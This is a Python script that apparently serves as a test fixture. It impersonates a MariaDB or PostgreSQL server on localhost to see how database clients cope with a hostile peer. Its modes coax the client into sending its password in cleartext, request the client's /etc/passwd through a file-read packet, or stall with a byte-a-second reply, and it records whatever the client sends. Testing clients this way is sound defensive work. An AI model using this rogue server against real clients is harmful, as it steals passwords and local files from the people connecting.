#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""What may have taken the port of a database: greets as MariaDB or PostgreSQL does, and is odd.

usage: rogue.py KIND PORT FILE

  clear     asks for the password in cleartext (MariaDB)
  clear-pg  the same (PostgreSQL)
  file      asks for a file of the client, once it has logged in (MariaDB)
  slow      lets the client log in, and then says one octet a second (MariaDB)

FILE gets what the client sent, after "ready".
"""

import select
import socket
import struct
import sys

kind, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]


def packet(number, payload):
    return struct.pack("<I", len(payload))[:3] + bytes([number]) + payload


def receive(peer):
    try:
        octets = peer.recv(65536)
    except OSError:
        octets = b""
    seen.write(octets)
    seen.flush()
    return octets


GREETING = packet(
    0,
    b"\x0a5.5.5-10.11.19-MariaDB\0" + struct.pack("<I", 7) + b"12345678\0"
    + struct.pack("<H", 0xF7FE) + b"\x2d" + struct.pack("<H", 2) + struct.pack("<H", 0x81FF)
    + bytes([21]) + bytes(10) + b"123456789012\0" + b"mysql_native_password\0",
)
OK = b"\0\0\0\2\0\0\0"


def serve(peer):
    if kind == "clear-pg":
        receive(peer)
        peer.sendall(b"R" + struct.pack(">II", 8, 3))
        receive(peer)
        return
    peer.sendall(GREETING)
    receive(peer)
    if kind == "clear":
        peer.sendall(packet(2, b"\xfemysql_clear_password\0"))
        receive(peer)
        return
    peer.sendall(packet(2, OK))
    if kind == "slow":
        receive(peer)
        for octet in packet(1, b"\xff\x48\x04#HY000" + b"x" * 100):
            peer.sendall(bytes([octet]))
            # A second without a word of the client, which may leave before.
            if select.select([peer], [], [], 1)[0]:
                break
    while receive(peer):
        peer.sendall(packet(1, b"\xfb/etc/passwd"))


server = socket.create_server(("127.0.0.1", port))
with open(path, "wb") as seen:
    seen.write(b"ready\n")
    seen.flush()
    while True:
        client, _ = server.accept()
        with client:
            try:
                serve(client)
            except OSError:
                pass
